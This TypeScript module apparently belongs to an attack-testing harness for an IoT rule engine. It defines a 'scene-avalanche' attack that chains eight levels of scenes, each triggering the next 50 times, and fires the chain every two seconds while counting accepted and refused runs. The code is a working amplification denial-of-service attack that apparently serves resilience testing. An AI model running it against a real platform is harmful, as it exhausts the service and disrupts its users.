/**
 * Eight scenes, each of which runs the next one 50 times.
 */
import type { Attack } from "../Attack.ts"

const depth = 8
const actions = 50

export const sceneAvalanche: Attack = {
  name: "scene-avalanche",
  prepare: async ({ count, tenant }) => {
    const [device] = await tenant.createDevices(await tenant.createProduct("Avalanche"), 1)
    const last = { URI: "action/device/property", params: { device_id: device!.deviceId, items: { mode: "x" } } }
    let next: unknown = last
    let first = ""
    for (let level = depth; level > 0; level--) {
      const scene = { name: `Level ${level}`, status: "enable", actions: Array.from({ length: actions }, () => next) }
      const { id } = await tenant.call<{ readonly id: string }>("POST", "/rule-engine/scenes", scene)
      next = { URI: "action/rule", params: { scene_id: id } }
      first = id
    }
    const run = (): void => {
      tenant.call("POST", `/rule-engine/scenes/${first}/actions`).then(
        () => count("runs"),
        () => count("runs refused")
      )
    }
    return () => {
      run()
      setInterval(run, 2000)
    }
  }
}
